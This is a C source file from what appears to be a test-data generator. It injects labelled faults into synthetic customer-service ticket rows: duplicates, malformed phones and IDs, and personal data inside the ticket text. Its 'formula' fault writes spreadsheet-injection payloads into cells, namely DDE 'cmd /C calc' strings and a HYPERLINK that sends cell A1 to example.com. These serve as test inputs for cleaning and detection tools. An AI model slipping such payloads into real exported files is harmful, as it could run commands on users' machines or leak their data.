/* faults.c - the kinds of faults: how each is made, and where it may stand. See faults.h.
 *
 * A row has one fault at most, so that every finding has one cause. Whether it has one is drawn from the seed
 * and its number alone: each kind has its own draws, and asking for another kind does not move the first.
 */
#include "faults.h"
#include "people.h"
#include <stdio.h>
#include <stdlib.h>

const char faults_usage[] =
    "\n"
    "  --faults LIST     only with --form stream: KIND:RATE,… or all:RATE (a RATE of 0.01 when none is "
    "given).\n"
    "                    Adds the columns email, id_card, bank_card, plate, name, address, which are right "
    "but\n"
    "                    for the faults, and leaves out the rows that are exported twice. A row has one "
    "fault\n"
    "                    at most; the rate is that of the rows which could have it. The kinds:\n"
    "      exact-duplicate          a row again, 1 to 64 rows further down\n"
    "      key-duplicate            the same, with another priority and handle_s\n"
    "      near-duplicate           a new ticket with one or two words of an earlier text changed. All texts "
    "are\n"
    "                               then long and each of its own, so that no others are near\n"
    "      missing-word             a word that means: no value (NULL, 无, N/A, …)\n"
    "      full-width               the digits and letters of an identifier or phone in full width\n"
    "      blanks                   blanks around a cell, U+3000 and U+00A0 too\n"
    "      phone-form               phone written otherwise: +86, 0086, blanks, dashes\n"
    "      resolved-before-created  (responded_at is then behind resolved_at, too)\n"
    "      handle-absurd            1000 minutes and more\n"
    "      csat-range               a score that is none\n"
    "      unknown-status           a word that is none\n"
    "      bad-id-card bad-bank-card   a wrong check digit;  bad-phone bad-plate   no such number\n"
    "      text-phone text-email text-id-card text-bank-card text-plate text-name text-address\n"
    "                               personal data inside the text; names are full and have a title behind "
    "them\n"
    "      text-decoy               the same place, what looks like it and is none: order numbers, amounts, "
    "…\n"
    "      formula                  a text that a spreadsheet would run\n"
    "  --faults-out FILE what was done, one line a cell, as a stream: line (of the output, the header is "
    "1),\n"
    "                    key (ticket_id before), column, kind, original (the cell before), injected (the "
    "cell\n"
    "                    now; of text-…: the piece put into the text, as it stands there). A row that was "
    "added\n"
    "                    has one line, of column ticket_id, with the line of the row it repeats as original; "
    "a\n"
    "                    key-duplicate has one for each changed cell besides, a near-duplicate one for the "
    "text.\n";

enum { X_EMAIL = FIELDS, X_ID_CARD, X_BANK_CARD, X_PLATE, X_NAME, X_ADDRESS, COLUMNS };
enum { CELL = 1024, LAG = 64, RATE_ONE = 1000000000 };

static const char *const extra_names[] = {"email", "id_card", "bank_card", "plate", "name", "address"};

struct cell {
    unsigned n;
    char s[CELL];
};
struct row {
    struct cell cell[COLUMNS];
    uint64_t line; /* of the output; 0: not to be repeated */
};
struct faults {
    struct row now, kept[LAG];
    uint64_t seed, row, line, added;
    uint32_t rate[32];
    bool near;
    struct out *list;
};

/* One kind: spoils f->now by the random bits and writes it down; false: this row cannot have it. A kind that
 * adds a row finds the earlier one in `other`. */
struct kind {
    const char *name;
    bool (*spoil)(struct faults *, const struct kind *, uint64_t r);
    int column; /* what the shared ones need to know */
};

/* ---- cells and the list ---- */

static void set(struct cell *c, const char *s, size_t n)
{
    c->n = (unsigned)(n < CELL ? n : CELL - 1);
    memcpy(c->s, s, c->n);
}

static void set_to(struct cell *c, char *end)
{
    c->n = (unsigned)(end - c->s);
}

static const char *column_name(int column, unsigned *n)
{
    if (column >= FIELDS) {
        *n = (unsigned)strlen(extra_names[column - FIELDS]);
        return extra_names[column - FIELDS];
    }
    *n = field_words[column][STREAM].n;
    return field_words[column][STREAM].s;
}

static void tell(struct faults *f, const struct kind *k, const struct cell *key, int column,
                 const struct cell *before, const char *now, size_t n)
{
    struct out *o = f->list;
    unsigned length;
    if (!o) return;
    const char *name = column_name(column, &length);
    o->p = put_number(o->p, f->line + 1, 1);
    *o->p++ = '\t';
    o->p = put(o->p, key->s, key->n);
    *o->p++ = '\t';
    o->p = put(o->p, name, length);
    *o->p++ = '\t';
    o->p = put_s(o->p, k->name);
    *o->p++ = '\t';
    o->p = put(o->p, before->s, before->n);
    *o->p++ = '\t';
    o->p = put(o->p, now, n);
    *o->p++ = '\n';
    out_room(o);
}

/* Puts `s` in the place of a cell of the row at hand. */
static bool replace(struct faults *f, const struct kind *k, int column, const char *s, size_t n)
{
    struct cell *c = &f->now.cell[column], before = *c, key = f->now.cell[F_TICKET];
    set(c, s, n);
    tell(f, k, &key, column, &before, c->s, c->n);
    return true;
}

static bool replace_z(struct faults *f, const struct kind *k, int column, const char *s)
{
    return replace(f, k, column, s, strlen(s));
}

/* ---- rows that come again ---- */

static void write_row(struct faults *f, struct out *o, const struct row *r)
{
    for (int i = 0; i < COLUMNS; i++) {
        o->p = put(o->p, r->cell[i].s, r->cell[i].n);
        *o->p++ = i + 1 < COLUMNS ? '\t' : '\n';
    }
    f->line++;
    out_room(o);
}

static bool again(struct faults *f, const struct kind *k, uint64_t r)
{
    struct row *old = &f->kept[r % LAG];
    struct cell place, key = old->cell[F_TICKET];
    if (!old->line || (k->column == F_TEXT && !old->cell[F_TEXT].n)) return false;
    if (k->column == F_HANDLE && !old->cell[F_HANDLE].n) return false;
    set_to(&place, put_number(place.s, old->line, 1));
    f->now = *old;
    old->line = f->now.line = 0;
    if (k->column == F_TEXT) {
        char *p = put_s(f->now.cell[F_TICKET].s, "N");
        set_to(&f->now.cell[F_TICKET], put_number(p, ++f->added, 9));
    }
    tell(f, k, &key, F_TICKET, &place, f->now.cell[F_TICKET].s, f->now.cell[F_TICKET].n);
    if (k->column == F_HANDLE) {
        struct cell *p = &f->now.cell[F_PRIORITY], *h = &f->now.cell[F_HANDLE];
        bool low = p->n == 3 && !memcmp(p->s, "low", 3);
        char text[16];
        uint64_t n = 0;
        for (unsigned i = 0; i < h->n; i++) n = n * 10 + (uint64_t)(h->s[i] - '0');
        replace_z(f, k, F_PRIORITY, low ? "normal" : "low");
        replace(f, k, F_HANDLE, text, (size_t)(put_number(text, n + 1 + (r >> 8) % 60, 1) - text));
    } else if (k->column == F_TEXT) {
        char text[CELL];
        size_t n = edit_text(text, f->now.cell[F_TEXT].s, f->now.cell[F_TEXT].n, r >> 8);
        replace(f, k, F_TEXT, text, n);
    }
    return true;
}

/* ---- spoilt cells ---- */

/* The first of these columns, from a random one on, that has a value; -1: none. */
static int with_value(const struct faults *f, const int *columns, unsigned n, uint64_t r)
{
    for (unsigned i = 0; i < n; i++) {
        int column = columns[(r + i) % n];
        if (f->now.cell[column].n) return column;
    }
    return -1;
}

static bool missing_word(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const words[] = {"NULL",   "N/A",  "无",   "-",    "--",
                                        "未评价", "null", "none", "暂无", "無"};
    static const int columns[] = {F_CATEGORY, F_AGENT, F_TEAM, F_PHONE, F_HANDLE, F_CSAT, F_ORDER};
    int column = with_value(f, columns, 7, r);
    return column >= 0 && replace_z(f, k, column, words[(r >> 8) % 10]);
}

static bool full_width(struct faults *f, const struct kind *k, uint64_t r)
{
    static const int columns[] = {F_CUSTOMER, F_AGENT, F_ORDER, F_PHONE};
    int column = with_value(f, columns, 4, r);
    if (column < 0) return false;
    const struct cell *c = &f->now.cell[column];
    char text[CELL], *p = text;
    for (unsigned i = 0; i < c->n && i < CELL / 4; i++) {
        unsigned code = 0xFEE0U + (unsigned char)c->s[i];
        *p++ = (char)0xEF;
        *p++ = (char)(0x80 | (code >> 6 & 0x3F));
        *p++ = (char)(0x80 | (code & 0x3F));
    }
    return replace(f, k, column, text, (size_t)(p - text));
}

static bool blanks(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const around[] = {" ", "　", "  ", "\xC2\xA0", "\\t"};
    static const int columns[] = {F_CATEGORY, F_AGENT, F_CHANNEL, F_ORDER, F_CUSTOMER};
    int column = with_value(f, columns, 5, r);
    if (column < 0) return false;
    unsigned side = (unsigned)(r >> 8) % 3;
    char text[CELL], *p = text;
    if (side != 1) p = put_s(p, around[(r >> 12) % 5]);
    p = put(p, f->now.cell[column].s, f->now.cell[column].n);
    if (side != 0) p = put_s(p, around[(r >> 20) % 5]);
    return replace(f, k, column, text, (size_t)(p - text));
}

static bool phone_form(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const forms[] = {"+86%c%c%c%c%c%c%c%c%c%c%c",  "+86 %c%c%c %c%c%c%c %c%c%c%c",
                                        "0086%c%c%c%c%c%c%c%c%c%c%c", "%c%c%c-%c%c%c%c-%c%c%c%c",
                                        "%c%c%c %c%c%c%c %c%c%c%c",   "(+86)%c%c%c%c%c%c%c%c%c%c%c"};
    const struct cell *c = &f->now.cell[F_PHONE];
    char text[CELL], *p = text;
    const char *form = forms[r % 6];
    if (c->n != 11) return false;
    for (unsigned i = 0; *form; form++) {
        if (*form != '%') {
            *p++ = *form;
        } else {
            *p++ = c->s[i++];
            form++;
        }
    }
    return replace(f, k, F_PHONE, text, (size_t)(p - text));
}

static bool resolved_early(struct faults *f, const struct kind *k, uint64_t r)
{
    const struct cell *c = &f->now.cell[F_CREATED];
    char text[CELL];
    if (!f->now.cell[F_RESOLVED].n || c->n != 25) return false;
    memcpy(text, c->s, 25);
    unsigned year = (unsigned)(c->s[3] - '0');
    if (r & 1 || year == 0) /* the year before, or the hour before where there is one */
        put_number(
            text,
            (uint64_t)((c->s[0] - '0') * 1000 + (c->s[1] - '0') * 100 + (c->s[2] - '0') * 10) + year - 1, 4);
    else if (c->s[11] == '0' && c->s[12] == '0')
        text[3] = (char)(c->s[3] - 1);
    else
        put_number(text + 11, (uint64_t)((c->s[11] - '0') * 10 + c->s[12] - '0') - 1, 2), text[13] = ':';
    if (!memcmp(text + 5, "02-29", 5)) text[9] = '8';
    return replace(f, k, F_RESOLVED, text, 25);
}

static bool handle_absurd(struct faults *f, const struct kind *k, uint64_t r)
{
    char text[CELL];
    if (!f->now.cell[F_HANDLE].n) return false;
    return replace(f, k, F_HANDLE, text, (size_t)(put_number(text, 60000 + r % 90000, 1) - text));
}

static bool csat_range(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const scores[] = {"0", "6", "-1", "55", "10"};
    return f->now.cell[F_CSAT].n && replace_z(f, k, F_CSAT, scores[r % 5]);
}

static bool unknown_status(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const words[] = {"zombie", "状态七", "in limbo", "X", "reslvoed"};
    return f->now.cell[F_STATUS].n && replace_z(f, k, F_STATUS, words[r % 5]);
}

/* Another digit in the last place, so that no check can hold. */
static bool bad_digit(struct faults *f, const struct kind *k, uint64_t r)
{
    struct cell c = f->now.cell[k->column];
    if (!c.n) return false;
    char *last = &c.s[c.n - 1];
    unsigned digit =
        *last == 'X' ? (unsigned)(r % 10) : ((unsigned)(*last - '0') + 1 + (unsigned)(r % 9)) % 10;
    *last = "0123456789"[digit];
    return replace(f, k, k->column, c.s, c.n);
}

static bool bad_number(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const phones[] = {"12345678901", "154", "1380013800", "19412345678", "abc13800138"};
    static const char *const plates[] = {"京I12345", "京A1234", "日A12345", "京A123456", "A12345"};
    if (!f->now.cell[k->column].n) return false;
    return replace_z(f, k, k->column, k->column == F_PHONE ? phones[r % 5] : plates[r % 5]);
}

static bool formula(struct faults *f, const struct kind *k, uint64_t r)
{
    static const char *const texts[] = {"=HYPERLINK(\"http://example.com/?\"&A1,\"click\")", "+1+1",
                                        "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1"};
    return f->now.cell[F_TEXT].n && replace_z(f, k, F_TEXT, texts[r % 5]);
}

/* Personal data goes to the beginning, the end or behind the first comma of the text. */
static bool in_text(struct faults *f, const struct kind *k, uint64_t r)
{
    struct cell *c = &f->now.cell[F_TEXT], before = *c;
    struct piece piece;
    if (!c->n) return false;
    make_piece(&piece, (enum personal)k->column, r);
    size_t at = 0;
    if (r >> 60 & 1) {
        at = c->n;
    } else if (r >> 61 & 1) {
        for (size_t i = 0; i + 3 <= c->n && !at; i++)
            if (!memcmp(c->s + i, "，", 3)) at = i + 3;
    }
    char *p = put(c->s, before.s, at);
    if (at == before.n) p = put_s(p, "，");
    p = put_s(p, piece.before);
    p = put(p, piece.s, piece.n);
    p = put_s(p, piece.after);
    if (at < before.n) p = put_s(p, "，");
    set_to(c, put(p, before.s + at, before.n - at));
    tell(f, k, &f->now.cell[F_TICKET], F_TEXT, &before, piece.s, piece.n);
    return true;
}

static const struct kind kinds[] = {
    {"exact-duplicate", again, F_TICKET},
    {"key-duplicate", again, F_HANDLE},
    {"near-duplicate", again, F_TEXT},
    {"missing-word", missing_word, 0},
    {"full-width", full_width, 0},
    {"blanks", blanks, 0},
    {"phone-form", phone_form, 0},
    {"resolved-before-created", resolved_early, 0},
    {"handle-absurd", handle_absurd, 0},
    {"csat-range", csat_range, 0},
    {"unknown-status", unknown_status, 0},
    {"bad-id-card", bad_digit, X_ID_CARD},
    {"bad-bank-card", bad_digit, X_BANK_CARD},
    {"bad-phone", bad_number, F_PHONE},
    {"bad-plate", bad_number, X_PLATE},
    {"text-phone", in_text, P_PHONE},
    {"text-email", in_text, P_EMAIL},
    {"text-id-card", in_text, P_ID_CARD},
    {"text-bank-card", in_text, P_BANK_CARD},
    {"text-plate", in_text, P_PLATE},
    {"text-name", in_text, P_NAME},
    {"text-address", in_text, P_ADDRESS},
    {"text-decoy", in_text, P_DECOY},
    {"formula", formula, 0},
};
enum { KINDS = sizeof kinds / sizeof *kinds, NEAR = 2 };

/* ---- the list of kinds ---- */

/* "0.01" in parts of RATE_ONE; -1: not a rate from 0 to 1. */
static int64_t parse_rate(const char *s, size_t n)
{
    int64_t v = 0, unit = RATE_ONE;
    bool point = false;
    if (!n || n > 11) return -1;
    for (size_t i = 0; i < n; i++) {
        if (s[i] == '.' && !point) {
            point = true;
        } else if (s[i] >= '0' && s[i] <= '9') {
            if (point) unit /= 10;
            v += (s[i] - '0') * unit;
            if (!point && i) return -1;
        } else {
            return -1;
        }
    }
    return v <= RATE_ONE ? v : -1;
}

static bool parse_item(struct faults *f, const char *s, size_t n)
{
    const char *colon = memchr(s, ':', n);
    size_t length = colon ? (size_t)(colon - s) : n;
    int64_t rate = colon ? parse_rate(colon + 1, n - length - 1) : RATE_ONE / 100;
    bool known = false;
    for (int i = 0; i < KINDS; i++) {
        bool this = strlen(kinds[i].name) == length && !memcmp(kinds[i].name, s, length);
        if (!this && !(length == 3 && !memcmp(s, "all", 3))) continue;
        known = true;
        f->rate[i] = (uint32_t)rate;
    }
    if (known && rate >= 0) return true;
    fprintf(stderr, "csgen: --faults: %s: '%.*s'\n", known ? "not a rate" : "unknown", (int)(n < 60 ? n : 60),
            s);
    return false;
}

struct faults *faults_new(const char *list, const char *list_path, uint64_t seed)
{
    struct faults *f = calloc(1, sizeof *f);
    if (!f) {
        fputs("csgen: out of memory\n", stderr);
        return NULL;
    }
    f->seed = mix(seed ^ 0x6661756c7473U);
    f->line = 1;
    bool ok = true;
    for (const char *s = list; ok; s += strcspn(s, ",") + 1) {
        ok = parse_item(f, s, strcspn(s, ","));
        if (!s[strcspn(s, ",")]) break;
    }
    f->near = f->rate[NEAR] > 0;
    if (ok && list_path) {
        f->list = out_open(list_path, NULL);
        if (f->list) f->list->p = put_s(f->list->p, "line\tkey\tcolumn\tkind\toriginal\tinjected\n");
        ok = f->list != NULL;
    }
    if (ok) return f;
    free(f);
    return NULL;
}

bool faults_close(struct faults *f, const char *list_path)
{
    bool ok = !f->list || out_close(f->list, list_path);
    free(f);
    return ok;
}

/* ---- rows ---- */

char *faults_header(char *p)
{
    for (int i = 0; i < COLUMNS - FIELDS; i++) {
        *p++ = '\t';
        p = put_s(p, extra_names[i]);
    }
    return p;
}

static void read_row(struct faults *f, const char *row, const char *end, const struct contact *c)
{
    struct cell *cell = f->now.cell;
    for (int i = 0; i < FIELDS; i++) {
        const char *to = memchr(row, i + 1 < FIELDS ? '\t' : '\n', (size_t)(end - row));
        set(&cell[i], row, (size_t)(to - row));
        row = to + 1;
    }
    for (int i = FIELDS; i < COLUMNS; i++) {
        struct piece piece = {.n = 0};
        static const enum personal is[] = {P_EMAIL, P_ID_CARD, P_BANK_CARD, P_PLATE, P_NAME, P_ADDRESS};
        /* The same for a customer in every row. */
        if (c->customer) make_person(&piece, is[i - FIELDS], mix(f->seed ^ c->customer));
        set(&cell[i], piece.s, piece.n);
    }
    if (f->near && cell[F_TEXT].n) set_to(&cell[F_TEXT], long_text(cell[F_TEXT].s, mix(f->seed + f->row)));
}

void faults_row(struct faults *f, struct out *o, char *row, const struct contact *c)
{
    f->row++;
    read_row(f, row, o->p, c);
    o->p = row;
    bool spoilt = false;
    struct row *keep = &f->kept[f->row % LAG];
    for (int i = 0; i < KINDS && !spoilt; i++) {
        uint64_t r = mix(mix(f->seed + (uint64_t)i * 0x9e3779b97f4a7c15U) ^ f->row);
        if (r % RATE_ONE >= f->rate[i]) continue;
        if (kinds[i].spoil != again) {
            spoilt = kinds[i].spoil(f, &kinds[i], mix(r));
            continue;
        }
        struct row mine = f->now; /* goes out first, and the other behind it */
        f->line++;
        spoilt = again(f, &kinds[i], mix(r));
        f->line--;
        struct row other = f->now;
        f->now = mine;
        if (!spoilt) continue;
        write_row(f, o, &mine);
        write_row(f, o, &other);
        keep->line = 0;
        return;
    }
    write_row(f, o, &f->now);
    *keep = f->now;
    keep->line = spoilt ? 0 : f->line;
}
